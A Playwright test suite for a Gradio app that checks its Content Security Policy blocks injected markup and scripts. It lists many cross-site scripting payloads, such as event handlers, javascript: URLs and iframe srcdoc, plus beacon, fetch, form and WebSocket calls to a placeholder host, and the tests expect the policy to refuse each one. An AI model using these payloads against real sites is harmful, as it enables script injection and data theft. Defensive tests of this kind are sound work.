"""What a page may load, run and send under its policy: everything that Gradio's components need, and nothing else."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from functools import partial

import gradio as gr
import pytest
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import Error as PlaywrightError

from auth.content_policy import SOURCE_DIRECTIVES
from tests.browser.conftest import Elsewhere, Enter, Person
from tests.support.app_server import AppServer
from tests.support.component_blocks import COMPONENTS, component_blocks

# -- Gradio's components ----------------------------------------------------------------------------------------------

DRAWN = {
    "annotatedimage": "img",
    "audio-shown": "button[aria-label=Play]",
    "bar-plot": "canvas, svg.marks",
    "chatbot": ".katex, b:text('a component')",
    "code": ".cm-content:has-text('print')",
    "dataframe": "table >> text=kind",
    "gallery": "img",
    "html": "i:text('as it is')",
    "image": "img",
    "image-editor": "canvas",
    "image-slider": "img",
    "label": "text=cat",
    "line-plot": "canvas, svg.marks",
    "markdown": ".katex",
    "mermaid": "svg[id^=mermaid]",
    "model3d": "canvas",
    "model3d-obj": "canvas",
    "plot-altair": "canvas, svg.marks",
    "plot-matplotlib": "img",
    "plot-plotly": ".js-plotly-plot svg",
    "scatter-plot": "canvas, svg.marks",
    "sketchpad": "canvas",
    "video": "video",
    "video-shown": "video",
}
"""What each of these shows once it has drawn itself."""


@pytest.fixture(scope="module")
def components() -> Iterator[AppServer]:
    with AppServer({}, main_blocks=component_blocks) as server:
        yield server


@pytest.fixture
def shown(enter: Enter, components: AppServer) -> Page:
    """The page with all components. Whatever its policy refuses fails the test, in `enter`."""
    person = enter(components)
    person.enters()
    return person.opens("/gradio/")


def test_every_component_is_drawn_under_the_policy(shown: Page) -> None:
    for name in COMPONENTS:
        if name not in ("browser-state", "timer"):
            shown.locator(f"#{name}").first.scroll_into_view_if_needed()
    for name, what in DRAWN.items():
        expect(shown.locator(f"#{name}").first.locator(what).first).to_be_visible(timeout=30_000)
    shown.wait_for_load_state("networkidle")


def test_scripts_of_the_blocks_author_run(shown: Page) -> None:
    shown.locator("#scripted button").click()
    expect(shown.locator("#scripted output")).to_have_text("clicked")
    expect(shown.locator("html")).to_have_attribute("data-from-head", "yes")


def test_sound_and_pictures_can_be_recorded_uploaded_and_shown(enter: Enter) -> None:
    with AppServer(
        {}, main_blocks=partial(component_blocks, "microphone", "image", "audio-shown", "image-editor")
    ) as server:
        person = enter(server)
        person.context.grant_permissions(["microphone", "camera"])
        person.enters()
        tab = person.opens("/gradio/")
        tab.locator("#microphone").get_by_role("button", name="Record", exact=True).first.click()
        tab.wait_for_timeout(1500)
        tab.locator("#microphone").get_by_role("button", name="Stop", exact=True).first.click()
        expect(tab.locator("#microphone").get_by_label("Play").first).to_be_visible()
        expect(tab.locator("#audio-shown").get_by_text("0:16").first).to_be_visible()
        tab.locator("#image").get_by_label("Remove Image").first.click()
        tab.locator("#image").get_by_label("Capture from camera").first.click()
        tab.locator("#image").get_by_text("Click to Access Webcam").first.click()
        expect(tab.locator("#image video")).to_have_js_property("paused", False)
        tab.wait_for_function("() => document.querySelector('#image video').videoWidth")  # else the picture is empty
        tab.locator("#image").get_by_label("capture photo").first.click()
        expect(tab.locator("#image img:visible").first).to_be_attached()


# -- what others put into a page --------------------------------------------------------------------------------------


def wall() -> gr.Blocks:
    """Shows everybody what somebody has written, as markup: the mistake that the policy makes up for."""
    with gr.Blocks() as blocks:
        written = gr.Textbox(label="Write")
        gr.Button("Show").click(lambda text: text, written, gr.HTML())
    return blocks


MARKUP = {
    "handler": "<img src=x onerror='window.MARK = true'>",
    "handler-of-svg": "<svg><animate onbegin='window.MARK = true' attributeName=x dur=1s></svg>",
    "handler-of-details": "<details open ontoggle='window.MARK = true'>",
    "link-javascript": "<a id=go href='javascript:window.MARK = true'>go</a>",
    "link-javascript-in-svg": "<svg width=50 height=50><a href='javascript:window.MARK = true'>"
    "<rect id=go width=50 height=50 /></a></svg>",
    "form-javascript": "<form action='javascript:window.MARK = true'><button id=go>go</button></form>",
    "frame-javascript": "<iframe src='javascript:parent.MARK = true'></iframe>",
    "frame-srcdoc": "<iframe srcdoc='&lt;script>parent.MARK = true&lt;/script>'></iframe>",
    "frame-srcdoc-handler": "<iframe srcdoc='&lt;img src=x onerror=parent.MARK=true>'></iframe>",
    "frame-srcdoc-script-elsewhere": "<iframe srcdoc='&lt;script src=ELSEWHERE/a.js>&lt;/script>'></iframe>",
    "frame-data": "<iframe src='data:text/html,<img src=ELSEWHERE/a.png>'></iframe>",
    "frame-elsewhere": "<iframe src='ELSEWHERE/a'></iframe>",
    "object-data": "<object data='data:text/html,<img src=ELSEWHERE/a.png>'></object>",
    "object-elsewhere": "<object data='ELSEWHERE/a'></object>",
    "embed-elsewhere": "<embed src='ELSEWHERE/a'>",
    "form-elsewhere": "<form action='ELSEWHERE/a'><input name=q value=secret><button id=go>go</button></form>",
    "form-post-elsewhere": "<form method=post action='ELSEWHERE/a'><button id=go>go</button></form>",
    "button-elsewhere": "<form><button id=go formaction='ELSEWHERE/a'>go</button></form>",
    "image": "<img src='ELSEWHERE/a.png'>",
    "image-set": "<img srcset='ELSEWHERE/a.png 1x'>",
    "video": "<video src='ELSEWHERE/a.mp4' autoplay></video>",
    "poster": "<video poster='ELSEWHERE/a.png'></video>",
    "audio": "<audio src='ELSEWHERE/a.mp3' autoplay></audio>",
    "style-sheet": "<link rel=stylesheet href='ELSEWHERE/a.css'>",
    "style-import": "<style>@import 'ELSEWHERE/a.css';</style>",
    "style-background": "<div style='background: url(ELSEWHERE/a.png)'>x</div>",
    "style-font": "<b id=q>q</b>"
    "<style>@font-face {font-family: q; src: url(ELSEWHERE/a.woff2)} #q {font-family: q}</style>",
    "svg-image": "<svg><image href='ELSEWHERE/a.png' /></svg>",
}
SCRIPT = {
    "fetch": "fetch('ELSEWHERE/a').catch(() => 0)",
    "fetch-no-cors": "fetch('ELSEWHERE/a', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0)",
    "request": "const asked = new XMLHttpRequest(); asked.open('GET', 'ELSEWHERE/a'); asked.send();",
    "beacon": "navigator.sendBeacon('ELSEWHERE/a', 'x')",
    "event-source": "new EventSource('ELSEWHERE/a.es')",
    "web-socket": "new WebSocket('ELSEWHERE/a'.replace('http', 'ws'))",
    "image": "new Image().src = 'ELSEWHERE/a.png'",
    "font": "new FontFace('q', 'url(ELSEWHERE/a.woff2)').load().catch(() => 0)",
    "module": "import('ELSEWHERE/a.js').catch(() => 0)",
    "script-elsewhere": "document.head.append("
    "Object.assign(document.createElement('script'), {src: 'ELSEWHERE/a.js'}))",
    "script-data": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: 'data:text/javascript,window.MARK=true'}))",
    "script-blob": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: URL.createObjectURL(new Blob(['window.MARK=true'], {type: 'text/javascript'}))}))",
    "script-inline": "document.head.append("
    "Object.assign(document.createElement('script'), {text: 'window.MARK=true'}))",
    "base": "(b => { b.href = 'ELSEWHERE/'; document.head.prepend(b); new Image().src = 'a.png'; "
    "window.MARK = document.baseURI.startsWith('ELSEWHERE') })(document.createElement('base'))",
}


EVERYTHING = "* data: blob: 'unsafe-inline' 'unsafe-eval'"
NO_POLICY = (
    "; ".join(
        f"{name} {'* javascript:' if name in ('base-uri', 'form-action') else EVERYTHING}"
        for name in SOURCE_DIRECTIVES.split()
        if name != "script-src-attr"
    )
    + "; script-src-attr 'unsafe-inline'"
)
"""Each directive lets everything through, as if there were no policy."""
EFFECT_SECONDS = 90.0
"""Of a vector where nothing is refused; a busy machine takes long."""


class Wall:
    """The page of `wall`, in front of one person. Every vector has a mark of its own, so that no other's late effect is
    taken for its own.
    """

    def __init__(self, server: AppServer, chromium: Browser, elsewhere: Elsewhere) -> None:
        self._person = Person(server, chromium.new_context())
        self._elsewhere = elsewhere
        self._is_as_it_came = False
        self._person.context.set_default_timeout(EFFECT_SECONDS * 1000)
        self._person.enters()

    def put(self, name: str, mark: str) -> None:
        tab, vector = self._person.tab, VECTORS[name]
        if not self._is_as_it_came:
            self._person.opens("/gradio/")
        self._is_as_it_came = "id=go" not in vector and "base" not in name
        vector = vector.replace("ELSEWHERE", f"{self._elsewhere.url}/{mark}").replace("MARK", mark)
        if name.startswith("script"):
            tab.evaluate(f"() => {{ {vector} }}")
            return
        tab.get_by_label("Write").fill(f"<u>{mark}</u>{vector}")
        tab.get_by_role("button", name="Show").click()
        tab.locator("u", has_text=mark).wait_for(state="attached")
        if "id=go" in vector:
            tab.locator("#go").click(force=True, no_wait_after=True)

    def has_effect(self, mark: str, *, within: float) -> bool:
        """A script ran that did not come with the page, or something was asked for elsewhere; looked for at once, and
        again for as many seconds.
        """
        until = time.monotonic() + within
        while True:
            is_late = time.monotonic() > until
            with suppress(PlaywrightError):  # the page has just gone elsewhere
                if self._person.tab.evaluate("mark => !!window[mark]", mark):
                    return True
            if any(mark in path for path in self._elsewhere.asked):
                return True
            if is_late:
                return False
            self._person.tab.wait_for_timeout(50)

    def leave(self) -> None:
        self._person.context.close()


VECTORS = {f"markup-{name}": code for name, code in MARKUP.items()} | {
    f"script-{name}": code for name, code in SCRIPT.items()
}


@pytest.fixture(scope="module")
def walls(chromium: Browser, elsewhere: Elsewhere) -> Iterator[tuple[Wall, Wall]]:
    """Under the policy, and where nothing is refused."""
    with ExitStack() as stack:
        servers = [
            stack.enter_context(AppServer({}, main_blocks=wall, content_security_policy=policy))
            for policy in ("", NO_POLICY)
        ]
        walls = [Wall(server, chromium, elsewhere) for server in servers]
        yield walls[0], walls[1]
        for one in walls:
            one.leave()


@pytest.mark.timeout(400)
@pytest.mark.parametrize("name", VECTORS)
def test_what_others_put_into_a_page_runs_nothing_and_sends_nothing_away(walls: tuple[Wall, Wall], name: str) -> None:
    number = list(VECTORS).index(name)
    refusing, open_to_all = walls
    start = time.monotonic()
    open_to_all.put(name, f"open{number}x")
    assert open_to_all.has_effect(f"open{number}x", within=EFFECT_SECONDS), "it shows nothing: it has no effect at all"
    took = time.monotonic() - start
    refusing.put(name, f"mark{number}x")
    assert not refusing.has_effect(f"mark{number}x", within=min(took, 5) + 0.5)


# -- pages of other sites ---------------------------------------------------------------------------------------------

PAGES = ["/login-demo/", "/gradio/", "/docs", "/nowhere"]


@pytest.mark.parametrize("path", PAGES)
def test_another_sites_page_shows_none_of_ours_in_a_frame(enter: Enter, local: AppServer, path: str) -> None:
    person = enter(local, is_attacked=True)
    person.enters()
    tab = person.visits_another_site(f"<iframe src='{local.url}{path}'></iframe>")
    tab.wait_for_load_state("networkidle")
    (frame,) = tab.main_frame.child_frames
    assert frame.url.startswith("chrome-error:")


def test_another_sites_page_that_opens_ours_keeps_no_hold_of_it(enter: Enter, local: AppServer) -> None:
    person = enter(local, is_attacked=True)
    tab = person.visits_another_site("<button>open</button>")
    with person.context.expect_page() as opened:
        tab.evaluate(f"() => {{ window.ours = window.open('{local.url}/login-demo/') }}")
    expect(opened.value.get_by_role("heading", name="Sign in")).to_be_visible()
    assert tab.evaluate("() => window.ours.closed")
    assert opened.value.evaluate("() => window.opener") is None


# -- the page that shows the API --------------------------------------------------------------------------------------


def test_a_title_with_markup_is_text_on_every_page(enter: Enter) -> None:
    title = "</title><script>hit = 1</script><img src=x onerror='hit = 1'>"
    with AppServer({}, app_title=title) as server:
        person = enter(server)
        person.enters()
        for path in ("/docs", "/login-demo/", "/gradio/", "/nowhere"):
            tab = person.opens(path)
            tab.wait_for_load_state("networkidle")
            assert title in tab.title()
            assert not tab.evaluate("() => window.hit")
        expect(person.opens("/docs").get_by_text("/user/me")).to_be_visible()
